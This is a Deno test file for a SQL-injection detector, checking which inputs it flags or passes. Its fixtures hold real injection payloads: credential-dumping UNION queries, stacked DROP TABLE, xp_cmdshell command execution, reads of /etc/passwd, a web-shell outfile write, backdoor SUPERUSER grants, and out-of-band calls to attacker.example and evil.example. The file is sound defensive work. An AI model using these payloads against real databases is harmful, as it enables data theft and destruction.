import assert from "node:assert/strict";
import {
  findSqlInjection,
  keywordsByRegex,
  keywordsPresent,
  SQLI_POLICIES,
} from "./sqli.ts";
import { STRUCTURAL_POLICY } from "../policies/sqli.ts";

const free = (t: string) => findSqlInjection(t, { isStatement: false });
const stmt = (t: string) => findSqlInjection(t, { isStatement: true });
const types = (fs: { type: string }[]) => fs.map((f) => f.type);

function assertFires(t: string, type: string, isStatement = false): void {
  const got = types(findSqlInjection(t, { isStatement }));
  assert.ok(got.includes(type), `${JSON.stringify(t)} → ${got.join(",")}`);
}

function assertClean(t: string, isStatement = false): void {
  const got = findSqlInjection(t, { isStatement });
  assert.deepEqual(types(got), [], JSON.stringify(t));
}

Deno.test("catalogue: ids, categories, at least 30 techniques", () => {
  assert.ok(SQLI_POLICIES.length >= 30);
  const ids = new Set(SQLI_POLICIES.map((p) => p.id));
  assert.equal(ids.size, SQLI_POLICIES.length);
  for (const p of SQLI_POLICIES) {
    assert.match(p.id, /^sys_sqli_[a-z_]+$/);
    assert.equal(p.category, "sqli");
    assert.equal(p.appliesTo, "input");
    // A policy detects by patterns, or by the structural checks that report under it.
    const structural = Object.values(STRUCTURAL_POLICY).includes(p.id);
    assert.ok((p.patterns.length > 0 || structural) && p.keywords.length > 0);
    assert.ok(p.description.length > 20);
  }
});

Deno.test("union-based: breakouts, null probing, fingerprints", () => {
  assertFires(
    "' UNION SELECT username, password FROM users--",
    "sqli_union_select",
  );
  assertFires("1 union all select 1,2,3", "sqli_union_select");
  assertFires(
    "x') union select * from information_schema.tables;",
    "sqli_union_select",
  );
  assertFires("' union select null,null,null--", "sqli_union_null_probe");
  assertFires("UN/**/ION SEL/**/ECT password FROM users", "sqli_union_select");
  assertFires("%27%20UNION%20SELECT%20@@version--", "sqli_union_select");
  assertFires("id=1+union+select+1,2,3", "sqli_union_select");
  assertFires(" ORDER BY 7--", "sqli_order_by_probe");
  // In a statement, only union signatures fire.
  assertFires(
    "SELECT a FROM t UNION SELECT @@version",
    "sqli_union_select",
    true,
  );
  assertFires(
    "SELECT a, b FROM t UNION ALL SELECT NULL, NULL",
    "sqli_union_null_probe",
    true,
  );
});

Deno.test("tautologies", () => {
  assertFires("' or '1'='1", "sqli_tautology_string");
  assertFires("' or 'a'='a", "sqli_tautology_string");
  assertFires('") or ("x"="x', "sqli_tautology_string");
  assertFires("admin' or 1=1--", "sqli_tautology_numeric");
  assertFires("1 or 1=1", "sqli_tautology_numeric");
  assertFires("' or 2 > 1", "sqli_tautology_numeric");
  assertFires("' or a=a--", "sqli_tautology_identifier");
  assertFires("' or true--", "sqli_tautology_true");
  assertFires("admin'--", "sqli_comment_truncation");
  assertFires("' OR '1'='1", "sqli_tautology_string");
  assertFires("’ or ‘1’=’1", "sqli_tautology_string");
  assertFires(
    "SELECT * FROM users WHERE name = '' OR '1'='1'",
    "sqli_tautology_string",
    true,
  );
  assertFires(
    "SELECT * FROM users WHERE id = 5 OR 1=1",
    "sqli_tautology_numeric",
    true,
  );
});

Deno.test("stacked, time, error, blind", () => {
  assertFires("1; DROP TABLE users--", "sqli_stacked_query");
  assertFires("'; exec master..xp_cmdshell 'dir'--", "sqli_stacked_query");
  assertFires("'; shutdown --", "sqli_shutdown");
  assertFires("1 AND SLEEP(5)", "sqli_time_sleep");
  assertFires("' or pg_sleep(10)--", "sqli_time_sleep");
  assertFires("1 and 0=benchmark(3000000,MD5(1))", "sqli_time_benchmark");
  assertFires("'; waitfor delay '0:0:5'--", "sqli_time_waitfor");
  assertFires("BEGIN DBMS_LOCK.SLEEP(5); END;", "sqli_time_sleep");
  assertFires("1 AND 1=randomblob(500000000)", "sqli_time_benchmark");
  assertFires(
    "' and extractvalue(1,concat(0x7e,version()))--",
    "sqli_error_xml",
  );
  assertFires(
    "' and updatexml(null,concat(0x3a,(select user())),null)--",
    "sqli_error_xml",
  );
  assertFires("1 AND 1=CONVERT(INT,(SELECT @@version))", "sqli_error_convert");
  assertFires("' AND 1=CAST(@@version AS INT)--", "sqli_error_convert");
  assertFires(
    "' and exp(~(select * from (select user())x))--",
    "sqli_error_double_query",
  );
  assertFires(
    "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "sqli_error_double_query",
  );
  assertFires(
    "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1",
    "sqli_boolean_blind",
  );
  assertFires(
    "1 and ascii(substring((select password from users),1,1))>64",
    "sqli_boolean_blind",
  );
});

Deno.test("encodings, files, commands, out of band, catalogues", () => {
  assertFires(
    "declare @s varchar(200) select @s = 0x73656c65637420404076657273696f6e exec(@s)",
    "sqli_hex_encoding",
  );
  assertFires("' or username = 0x61646d696e--", "sqli_hex_encoding");
  assertFires("' union select char(114,111,111,116)--", "sqli_char_encoding");
  assertFires("CHR(65)||CHR(66)||CHR(67)", "sqli_char_encoding");
  assertFires("'; exec ('sel' + 'ect us' + 'er')", "sqli_concat_obfuscation");
  assertFires(
    "' union select 1,load_file('/etc/passwd'),1--",
    "sqli_file_access",
  );
  assertFires("1 into outfile '/var/www/shell.php'", "sqli_file_access");
  assertFires("COPY t FROM PROGRAM 'id'", "sqli_file_access", true);
  assertFires("select pg_read_file('/etc/passwd')", "sqli_file_access", true);
  assertFires("EXEC xp_cmdshell 'whoami'", "sqli_command_exec", true);
  assertFires("exec sp_oacreate 'wscript.shell', @o out", "sqli_command_exec");
  assertFires(
    "'; exec master..xp_dirtree '\\\\attacker.example\\a'--",
    "sqli_out_of_band",
  );
  assertFires(
    "' || utl_http.request('http://evil.example/') || '",
    "sqli_out_of_band",
  );
  assertFires(
    "select load_file(concat('\\\\\\\\',version(),'.x.example\\\\a'))",
    "sqli_out_of_band",
  );
  assertFires(
    "' and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
    "sqli_out_of_band",
  );
  assertFires(
    "' union select table_name from information_schema.tables--",
    "sqli_schema_probe",
  );
  assertFires("1 union select name from sqlite_master", "sqli_schema_probe");
  assertFires(
    "' union select user, password from mysql.user--",
    "sqli_admin_table",
  );
  assertFires(
    "SELECT usename, passwd FROM pg_shadow",
    "sqli_admin_table",
    true,
  );
  assertFires("' and @@version like '5%'--", "sqli_fingerprint");
  assertFires("1 and user_name() = 'dbo'", "sqli_fingerprint");
});

Deno.test("privileges: GRANT/REVOKE as statements, never inside words", () => {
  assertFires(
    "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
    "sqli_privilege_change",
    true,
  );
  assertFires(
    "' grant connect to name; grant resource to name; --",
    "sqli_privilege_change",
  );
  assertFires("' revoke select on orders from app --", "sqli_privilege_change");
  // In a statement only escalations count; a narrow grant or a revoke is routine.
  assertClean("REVOKE SELECT ON orders FROM app", true);
  assertClean("GRANT SELECT ON reports TO analyst", true);
  assertFires(
    "GRANT pg_read_server_files TO app",
    "sqli_privilege_change",
    true,
  );
  assertFires("GRANT SELECT ON t TO PUBLIC", "sqli_privilege_change", true);
  assertFires(
    "GRANT SELECT ON t TO bob WITH GRANT OPTION",
    "sqli_privilege_change",
    true,
  );
  assertFires("ALTER USER admin WITH SUPERUSER", "sqli_privilege_change", true);
  assertClean("the migrant workers grant each other help");
  assertClean("Union membership grants benefits");
});

Deno.test("destructive statements fire as their own policies", () => {
  const drop = stmt("DROP TABLE users");
  assert.deepEqual(types(drop), ["sqli_drop_table"]);
  assert.equal(drop[0].action, "block");
  assert.equal(stmt("DROP DATABASE prod;")[0].type, "sqli_drop_database");
  assert.equal(stmt("TRUNCATE TABLE logs")[0].type, "sqli_truncate");
  assert.equal(stmt("truncate logs;")[0].type, "sqli_truncate");
  const del = stmt("DELETE FROM users;");
  assert.deepEqual(types(del), ["sqli_delete_without_where"]);
  assert.equal(del[0].action, "warn");
  assert.deepEqual(types(stmt("UPDATE users SET admin = true")), [
    "sqli_update_without_where",
  ]);
  assert.deepEqual(types(stmt("ALTER TABLE users DROP COLUMN email")), [
    "sqli_alter_drop",
  ]);
  // With a WHERE they pass.
  assertClean("DELETE FROM users WHERE id = 3", true);
  assertClean("UPDATE users SET admin = true WHERE id = 3;", true);
  // Free text does not treat prose as statements.
  assertClean("we drop support for Node 14");
  assertClean("Drop table salt into the soup and truncate the list.");
});

Deno.test("NoSQL, LIKE and polyglot payloads", () => {
  assertFires(
    '{"username": {"$ne": null}, "password": {"$ne": null}}',
    "sqli_nosql_operator",
  );
  assertFires("user[$ne]=1&pass[$gt]=", "sqli_nosql_operator");
  assertFires("', $where: '1 == 1'", "sqli_nosql_operator");
  assertFires("' && this.password.match(/.*/)//", "sqli_nosql_javascript");
  assertFires("' or username like '%", "sqli_like_wildcard");
  assertFires(
    "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/",
    "sqli_polyglot",
  );
  assertFires("UN/**/ION/**/SELECT 1", "sqli_inline_comment_obfuscation");
  assertFires("1 /*!50000UNION*/ SELECT 1", "sqli_inline_comment_obfuscation");
});

Deno.test("legitimate SQL statements pass", () => {
  for (
    const q of [
      "SELECT id, name FROM users WHERE id = 42",
      "SELECT * FROM orders WHERE status = 'open' ORDER BY created_at DESC LIMIT 20",
      "INSERT INTO t (a) VALUES ('x')",
      "UPDATE users SET name='x' WHERE id=1",
      "DELETE FROM sessions WHERE expires_at < now()",
      "SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id",
      "WITH r AS (SELECT * FROM e WHERE ts > now()) SELECT count(*) FROM r",
      "SELECT name FROM customers UNION SELECT name FROM suppliers",
      "SELECT id FROM a UNION ALL SELECT id FROM b ORDER BY 1",
      "SELECT * FROM t WHERE a = 'x' OR b = 'y'",
      "SELECT * FROM t WHERE 1=1 AND status = 'active'",
      "SELECT CHAR(13) + CHAR(10)",
      "CREATE TABLE o (id int REFERENCES u(id) ON DELETE CASCADE)",
      "INSERT INTO s (k, v) VALUES ('a', 1) ON DUPLICATE KEY UPDATE v = v + 1",
      "SELECT * FROM inventory WHERE qty < 5 -- low stock",
      "SELECT /*+ INDEX(o idx) */ * FROM orders o WHERE user_id = 3",
      "SELECT version()",
      "SELECT column_name FROM information_schema.columns WHERE table_name = 'users'",
      "BEGIN; UPDATE a SET b = b - 1 WHERE id = 1; COMMIT;",
    ]
  ) assertClean(q, true);
});

Deno.test("prose and documentation stay clean", () => {
  for (
    const t of [
      "the migrant workers",
      "please select an option or cancel",
      "Union membership grants benefits",
      "we drop support for Node 14",
      "sleep well",
      "Open the menu; select Save, then choose a folder from the list.",
      "SQL injection happens when an attacker closes a quoted string and appends their own clauses, such as a union of another select or an always-true condition; use parameterised queries.",
      "Order by 5pm to get next-day delivery, or call us.",
      "It's 'fine' or so they say.",
      "time.sleep(5)  # wait for the server",
      'He said "yes" or "no" and left.',
      "Our union selected a new leader; members voted 1 or 2 times.",
      "x = a + b; y = 'left' + 'right'",
      "Use `DELETE FROM table` carefully — it removes every row.",
      "path = base + '/*'",
      '{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/a"}',
    ]
  ) assertClean(t);
});

Deno.test("findings locate the payload in the original text", () => {
  const text = "name=bob%27%20OR%20%271%27%3D%271&x=1";
  const f = free(text).find((x) => x.type === "sqli_tautology_string");
  assert.ok(f);
  assert.ok(f.start >= 8 && f.end <= text.length && f.end > f.start);
  assert.ok(text.slice(f.start, f.end).includes("OR"));
});

Deno.test("1 MB adversarial inputs finish (linear-time patterns)", () => {
  const inputs = [
    "' or ".repeat(2e5),
    "union ".repeat(2e5),
    "a".repeat(1e6),
    "=".repeat(1e6),
    "'".repeat(1e6),
    "/*".repeat(5e5),
    "%27".repeat(3e5),
    "+a".repeat(5e5),
    "0x".repeat(5e5) + "41",
    "char(1,".repeat(1.5e5),
    "grant select, ".repeat(7e4),
    "' or '1'='".repeat(1e5),
    "1=1 or ".repeat(1.5e5),
    "delete from t ".repeat(7e4),
    "select null,".repeat(8e4),
    "'||".repeat(3e5),
    "sleep(".repeat(2e5),
    "order by 1,".repeat(1e5),
    "$ne:{".repeat(2e5),
    // Statements (they start with a verb, so the masked statement path runs).
    "SELECT * FROM t WHERE " + "a = 'x' or ".repeat(1e5),
    "SELECT 1 " + "-- and x = '".repeat(8e4),
    "SELECT 1 " + "'a' #".repeat(2e5),
    "UPDATE t SET a = 1 " + "where 1=1 ".repeat(1e5),
    "DELETE FROM t " + "where 'a'='a' ".repeat(7e4),
    "SELECT 1 " + "union select 'a'||".repeat(5e4),
    "CREATE USER x " + "with login ".repeat(1e5),
    "SELECT 1 " + "or 1 between ".repeat(8e4),
    "SELECT 1 " + "and 12=".repeat(1.5e5),
    "SELECT $$" + "x".repeat(1e6),
    "SELECT '" + "''".repeat(5e5),
    // Structural checks: long OR chains, deep parentheses, chained comparisons.
    "SELECT 1 WHERE " + "1 or ".repeat(2e5),
    "DELETE FROM t WHERE " + "(".repeat(5e5),
    "SELECT 1 WHERE a " + "= 1 ".repeat(2.5e5),
    "SELECT 1 WHERE x = 1 OR " + "exists(select ".repeat(7e4),
    "SELECT 1 WHERE a " + "between 1 ".repeat(1e5),
    // Subquery and credential patterns.
    "SELECT 1 WHERE x = 1 AND " + "f((select ".repeat(1e5),
    "SELECT 1 WHERE " + "password_".repeat(1e5) + " like",
    "SELECT 1 WHERE " + "and (select ".repeat(8e4),
    "SELECT " + "* , ".repeat(2.5e5) + " mysql.user",
    "SELECT 1 " + "union select ".repeat(8e4) + "0x41",
  ];
  for (const t of inputs) {
    for (const isStatement of [false, true]) {
      const got = findSqlInjection(t, { isStatement });
      assert.ok(Array.isArray(got));
      assert.ok(got.length <= SQLI_POLICIES.length * 64);
    }
  }
});

Deno.test("sqli keywords: the indexOf path for short texts equals the alternation regex", () => {
  const words = [...new Set(SQLI_POLICIES.flatMap((p) => p.keywords))];
  let seed = 17;
  const rnd = (n: number) => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed % n;
  };
  const texts = [
    "",
    "ls -la",
    words.join(""),
    words.join(" "),
    [
      ...words,
    ].reverse().join(""),
  ];
  for (let t = 0; t < 300; t++) {
    let s = "";
    while (s.length < 200) {
      const w = words[rnd(words.length)];
      s += [w, w.slice(0, 1 + rnd(w.length)), w.slice(rnd(w.length)), " "][
        rnd(4)
      ];
    }
    texts.push(s);
  }
  let nonEmpty = 0;
  for (const text of texts) {
    const fast = keywordsPresent(text);
    assert.deepEqual([...fast].sort(), [...keywordsByRegex(text)].sort(), text);
    if (fast.size > 0) nonEmpty++;
  }
  assert.ok(nonEmpty > 290);
});

const db = (t: string) => types(stmt(t));

Deno.test("statements: payload fragments sent to a database are judged as injected text", () => {
  for (
    const [t, type] of [
      ["' or 1 --", "sqli_tautology_numeric"],
      ["'or'1=1", "sqli_tautology_numeric"],
      ["admin' #", "sqli_comment_truncation"],
      ["' having 1=1--", "sqli_tautology_numeric"],
      [" ORDER BY 17#", "sqli_order_by_probe"],
      [" AND 1=0--", "sqli_tautology_numeric"],
      ["1 and 1=1", "sqli_tautology_numeric"],
      ["' or 2 between 1 and 3", "sqli_tautology_numeric"],
      ["UNION ALL SELECT 'INJ'||'ECT'", "sqli_union_select"],
      ["'),NULL)%20waitfor%20delay%20'0:0:10'--", "sqli_time_waitfor"],
      ['{"$where": "this.password.match(/.*/)"}', "sqli_nosql_operator"],
    ] as const
  ) assert.ok(db(t).includes(type), `${t} → ${db(t).join(",")}`);
});

Deno.test("statements: payloads inside well-formed statements", () => {
  for (
    const [t, type] of [
      [
        "SELECT * FROM users WHERE name = 'admin'--' AND pw = 'x'",
        "sqli_comment_truncation",
      ],
      [
        "SELECT * FROM users WHERE name = 'admin' #' AND pw = 'x'",
        "sqli_comment_truncation",
      ],
      [
        "SELECT * FROM p WHERE c = 'Gifts' OR 2 BETWEEN 1 AND 3--'",
        "sqli_tautology_numeric",
      ],
      ["SELECT * FROM p WHERE id = 1 OR 5>2", "sqli_tautology_numeric"],
      [
        "SELECT * FROM p WHERE id = 1 OR 'abc' LIKE 'a%'",
        "sqli_tautology_numeric",
      ],
      ["SELECT * FROM p WHERE id = 1 OR 1 IN (1)", "sqli_tautology_numeric"],
      ["SELECT * FROM p WHERE id = 1 AND 3821=3822", "sqli_tautology_numeric"],
      [
        "SELECT * FROM p WHERE id = 'x' AND 'pK'='pK'",
        "sqli_tautology_numeric",
      ],
      ["SELECT * FROM p WHERE id = 3 ORDER BY 17#", "sqli_comment_truncation"],
      [
        "SELECT * FROM p WHERE id = 1 UNION ALL SELECT 'INJ'||'ECT', 2",
        "sqli_union_select",
      ],
      [
        "SELECT a, b FROM i WHERE id = 3 UNION SELECT username, password FROM users",
        "sqli_union_select",
      ],
      ["SELECT * FROM p WHERE id = 1%20OR%201=1", "sqli_tautology_numeric"],
      [
        "SELECT id FROM i WHERE id = 10%27%20or%20%271%27=%271",
        "sqli_tautology_string",
      ],
      [
        "SELECT * FROM t WHERE a = '1' AND SUBSTRING((SELECT pw FROM u),1,1) = 'a'",
        "sqli_boolean_blind",
      ],
    ] as const
  ) assert.ok(db(t).includes(type), `${t} → ${db(t).join(",")}`);
});

Deno.test("statements: narrow-looking DELETE/UPDATE that change every row", () => {
  for (
    const t of [
      "DELETE FROM users WHERE 1=1",
      "delete from users where 'a' = 'a';",
      "DELETE FROM orders WHERE TRUE",
      "UPDATE users SET role = 'admin' WHERE 'a'='a'",
      "UPDATE products SET price = 0 WHERE 7 = 7 RETURNING id",
      "UPDATE t SET x = 1 WHERE id = id",
    ]
  ) {
    const got = stmt(t).find((f) => f.type === "sqli_always_true_where");
    assert.ok(got, t);
    assert.equal(got.action, "block");
  }
  for (
    const t of [
      "DELETE FROM users WHERE 1=1 AND id = 4",
      "SELECT * FROM users WHERE 1=1",
      "UPDATE t SET a = 1 WHERE 1=1 AND b = 2",
      "DELETE FROM t WHERE id = 1",
    ]
  ) assert.ok(!db(t).includes("sqli_always_true_where"), t);
});

Deno.test("statements: privilege changes need SQL grammar", () => {
  for (
    const t of [
      "CREATE USER backdoor SUPERUSER",
      "CREATE ROLE backdoor WITH LOGIN SUPERUSER PASSWORD 'x'",
      "ALTER ROLE reporting SUPERUSER",
      "ALTER USER app_user WITH SUPERUSER",
      "GRANT ALL PRIVILEGES ON DATABASE app TO intruder",
      "GRANT ALL ON SCHEMA public TO PUBLIC",
    ]
  ) assert.ok(db(t).includes("sqli_privilege_change"), t);
  for (
    const t of [
      "SELECT * FROM migrants WHERE granted = true",
      "CREATE ROLE readonly NOSUPERUSER",
      "SELECT grantee FROM information_schema.role_table_grants",
      "SELECT * FROM users WHERE name = 'Grant' OR name = 'Revoke'",
    ]
  ) assert.deepEqual(db(t), [], t);
});

Deno.test("statements: literals, comments, builders and prose stay clean", () => {
  for (
    const t of [
      "SELECT * FROM customers WHERE last_name = 'O''Brien'",
      'SELECT "users".* FROM "users" WHERE "users"."active" = TRUE AND 1=0',
      "SELECT * FROM t WHERE 1=1 AND status = 'active' AND region = 'eu'",
      'SELECT "t"."id" FROM "t" WHERE ("t"."a" = 1) AND (1 = 1)',
      "SELECT * FROM articles WHERE title = 'never write '' OR 1=1'' into a query'",
      "INSERT INTO faq (q, a) VALUES ('Why do we drop table names from logs?', 'Privacy.')",
      "SELECT * FROM orders WHERE note = 'customer said: or 1=1 is a joke'",
      "SELECT * FROM notes WHERE body LIKE '%union select%'",
      "SELECT * FROM t WHERE code LIKE '%27%' OR code LIKE '%22%'",
      "SELECT * FROM t WHERE tag = '#urgent' OR tag = '#p1'",
      "SELECT * FROM inventory WHERE qty < 5 -- low stock, don't reorder",
      "SELECT * FROM t ORDER BY 2 DESC, 1",
      "SELECT name FROM customers UNION SELECT name FROM suppliers ORDER BY name",
      "SELECT id, 'customer' AS kind FROM customers UNION ALL SELECT id, 'supplier' FROM suppliers",
      "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN DELETE FROM t; RETURN NEW; END $$ LANGUAGE plpgsql",
      "-- migration 0042: drop the legacy flag once the backfill is done",
      "SQL injection happens when an attacker closes a quoted string and appends OR 1=1; use parameterised queries instead.",
      "The classic payload ' OR '1'='1 is shown in every security training.",
      "The query builder starts with WHERE 1=1 and appends AND clauses.",
    ]
  ) assert.deepEqual(db(t), [], t);
});

Deno.test("statements: schema probes, spliced subqueries, comment-spaced words (round 6 classes)", () => {
  const hits: [string, string][] = [
    // A condition that is a subquery on the system catalogue.
    [
      "SELECT * FROM t WHERE id = 1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
      "sqli_boolean_blind",
    ],
    [
      "SELECT * FROM t WHERE id = 1 AND (SELECT SUBSTR(banner,1,1) FROM v$version WHERE rownum=1) = 'O'",
      "sqli_boolean_blind",
    ],
    [
      "SELECT * FROM t WHERE id = 2 OR 1=(SELECT count(*) FROM pg_catalog.pg_user)",
      "sqli_boolean_blind",
    ],
    // A subquery spliced into a string by concatenation.
    [
      "SELECT * FROM users WHERE name = 'x' || (SELECT password FROM users WHERE id=1) || ''",
      "sqli_boolean_blind",
    ],
    // A comment between two words is a space, not a join.
    [
      "SELECT a FROM t WHERE id = 4 UnIoN/**/SeLeCt table_name FROM information_schema.tables",
      "sqli_union_select",
    ],
    // Constant-only WHERE on DELETE/UPDATE, beyond equality.
    ["UPDATE accounts SET balance = 0 WHERE 2>1", "sqli_always_true_where"],
    ["DELETE FROM t WHERE 'a' <> 'b'", "sqli_always_true_where"],
    // A literal compared to a concatenation of literals.
    [
      "SELECT * FROM t WHERE a = 'x' AND 'abc' = 'ab'||'c'",
      "sqli_tautology_numeric",
    ],
    ["SELECT * FROM products WHERE id = 3 ORDER BY 33", "sqli_order_by_probe"],
    // UNION reading any server variable or setting.
    [
      "SELECT a FROM t WHERE id = 2 UNION SELECT 1, @@datadir",
      "sqli_union_select",
    ],
    [
      "SELECT a FROM t WHERE id = 2 UNION SELECT current_setting('config_file')",
      "sqli_union_select",
    ],
    // The false half of a blind probe pair (the true half, AND 1=1, is what builders write).
    ["SELECT * FROM products WHERE id = 1 and 1=2", "sqli_constant_probe"],
    [
      "SELECT * FROM t WHERE name = 'a' OR name IS NOT NULL --",
      "sqli_tautology_identifier",
    ],
  ];
  for (const [t, type] of hits) assertFires(t, type, true);
  // Percent-encoded breakout kept inside a literal.
  assert.ok(
    db("SELECT * FROM invoices WHERE note = '%27%20OR%20%27x%27%3D%27x'")
      .length > 0,
  );
  // A quote in another spelling inside a literal (look-alike, backslash,
  // percent with a plain space) closing the value, then an operator word and a comparison.
  for (
    const t of [
      "SELECT * FROM t WHERE note = 'x\u2019 OR \u20191\u2019=\u20191'",
      "SELECT * FROM t WHERE code = 'NW2\u02bc OR 1=1 --'",
      "SELECT * FROM t WHERE code = 'NW2\uff07 OR \uff071\uff07=\uff071'",
      "SELECT * FROM t WHERE code = 'NW2%27 OR %271%27=%271'",
      // Encoded twice: a second decoding layer turns %2527 into a quote.
      "SELECT * FROM players WHERE handle = 'nova%2527 OR 1=1 --'",
      "SELECT * FROM t WHERE note = 'x%27) OR (%271%27=%271'",
      "SELECT * FROM t WHERE note = 'x\uff07 UNION SELECT password FROM users--'",
      "SELECT * FROM t WHERE code = 'NW2\\' OR 1=1 -- '",
    ]
  ) assert.ok(db(t).length > 0, t);
  // Quoted words and apostrophes in stored prose carry no comparison.
  for (
    const t of [
      "INSERT INTO notes (body) VALUES ('He said \u2018maybe\u2019 or \u2018later\u2019 and left')",
      "INSERT INTO notes (body) VALUES ('Member of the \u2018Union\u2019 and the \u2018Guild\u2019 since 2019')",
      "INSERT INTO notes (body) VALUES ('It\\'s booked or cancelled, ask at the desk')",
      "UPDATE notes SET body = 'Patient\u2019s daughter called; she\u2019ll select a slot' WHERE id = 3",
      "INSERT INTO notes (body) VALUES ('Ask for \u2018Room B\u2019 or \u2018B4\u2019 (same room)')",
      "SELECT * FROM t WHERE code LIKE '%27 or%'",
      "SELECT * FROM t WHERE note = 'discount 25%25 or more = good'",
    ]
  ) assert.deepEqual(db(t), [], t);
  for (
    const t of [
      "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
      "SELECT * FROM t WHERE id IN (SELECT id FROM information_schema.columns WHERE table_name = 'x')",
      "SELECT COALESCE(nickname, first_name || ' ' || last_name) FROM members",
      "SELECT * FROM t WHERE a IS NOT NULL OR b IS NOT NULL",
      'SELECT "t"."id" FROM "t" WHERE ("t"."a" = 1 OR "t"."b" = 2) AND 1=1',
      "SELECT * FROM t WHERE x = 1 AND (1 = 1)",
      "SELECT * FROM t ORDER BY 3",
      "SELECT name FROM a UNION SELECT name FROM b WHERE b.flag = 1",
      "SELECT * FROM t WHERE code LIKE '%27%' OR code LIKE '%20%'",
      "UPDATE t SET v = 1 WHERE qty > 5",
      "SELECT a /* the first column */ FROM t",
      "SELECT * FROM logs WHERE message ILIKE '%sleep(%' LIMIT 100",
    ]
  ) assert.deepEqual(db(t), [], t);
});

Deno.test("statements: structural checks (constant conditions, chained comparisons, round 9 classes)", () => {
  const hits: [string, string][] = [
    ["SELECT * FROM t WHERE id = 3 OR 7-6=1", "sqli_constant_condition"],
    ["SELECT * FROM t WHERE id = 3 OR NOT FALSE --", "sqli_constant_condition"],
    [
      "SELECT * FROM t WHERE id = 3 OR EXISTS(SELECT 1)",
      "sqli_constant_condition",
    ],
    [
      "SELECT * FROM t WHERE id = 3 OR length('ab') = 2",
      "sqli_constant_condition",
    ],
    [
      "SELECT * FROM t WHERE login = ''='' AND pw = ''=''",
      "sqli_constant_condition",
    ],
    ["DELETE FROM t WHERE 'x' LIKE '%'", "sqli_always_true_where"],
    ["UPDATE t SET a = 0 WHERE 3 BETWEEN 1 AND 9", "sqli_always_true_where"],
    ["UPDATE t SET a = 0 WHERE id = 7 OR id > 0", "sqli_tautology_identifier"],
    [
      "SELECT * FROM t WHERE id = 2 AND (SELECT substr(password, 3, 1) FROM users WHERE name = 'admin') = 'k'",
      "sqli_boolean_blind",
    ],
    [
      "SELECT * FROM t WHERE id = 5 AND 'x'=(SELECT CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN 'x' ELSE 'y' END)",
      "sqli_boolean_blind",
    ],
    [
      "INSERT INTO profiles (user_id, bio) VALUES (5, (SELECT password FROM users WHERE username = 'admin'))",
      "sqli_credential_probe",
    ],
    [
      "SELECT * FROM t WHERE id = 1 AND (SELECT pass_hash FROM staff LIMIT 1) LIKE 'a%'",
      "sqli_credential_probe",
    ],
    [
      "SELECT * FROM t WHERE id = 1 AND @@version LIKE '8%'",
      "sqli_fingerprint",
    ],
    ["SELECT load_extension('/tmp/evil.so')", "sqli_command_exec"],
    [
      "SELECT * FROM t WHERE id = 1; EXEC sp_configure 'show advanced options', 1; RECONFIGURE--",
      "sqli_command_exec",
    ],
    [
      "SELECT * FROM t WHERE id = 2 UNION SELECT 1, query_to_xml('select * from pg_shadow', true, true, '')",
      "sqli_dynamic_exec",
    ],
    [
      "SELECT id FROM t WHERE id = 0 UNION SELECT 0x61646d696e, 0x70617373",
      "sqli_union_select",
    ],
    [
      "SELECT * FROM t WHERE name = 'root';-- ' AND pass = 'x'",
      "sqli_comment_truncation",
    ],
    ["copy myfile from '/etc/passwd'", "sqli_file_access"],
    [
      "SELECT 1; execute immediate 'sel' || 'ect us' || 'er'",
      "sqli_concat_obfuscation",
    ],
  ];
  for (const [t, type] of hits) assertFires(t, type, true);
  for (
    const t of [
      // Builders write a plainly false OR for an empty list.
      'select "id" from "tasks" where "done" = false or 1 = 0',
      "SELECT * FROM t WHERE (owner_id = $1 OR $1 IS NULL)",
      "SELECT * FROM t WHERE owner_id = ? OR ? = 0",
      "CREATE OR REPLACE VIEW v AS SELECT * FROM t WHERE status = 'open'",
      "INSERT OR IGNORE INTO tags (name) VALUES ('x')",
      "DELETE FROM t WHERE 1 = 0",
      "SELECT * FROM t WHERE 1=0",
      "SELECT * FROM t WHERE id = 3 OR EXISTS (SELECT 1 FROM s WHERE s.t_id = t.id)",
      "SELECT * FROM t WHERE data->>'kind' = 'gift' AND data->'m'->>'x' = 'y'",
      "SELECT * FROM t WHERE price > 10 OR discount IS NOT NULL",
      "SELECT user, host FROM mysql.user",
      "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;",
      "UPDATE users SET password_digest = $1 WHERE id = $2 AND password_digest = $3",
      "SELECT * FROM t WHERE body = 'x = '''' = y'",
      "SELECT substr(name, 1, 1) AS initial, count(*) FROM users GROUP BY 1",
      "COPY t FROM '/tmp/import/orders.csv' WITH (FORMAT csv)",
    ]
  ) assertClean(t, true);
});
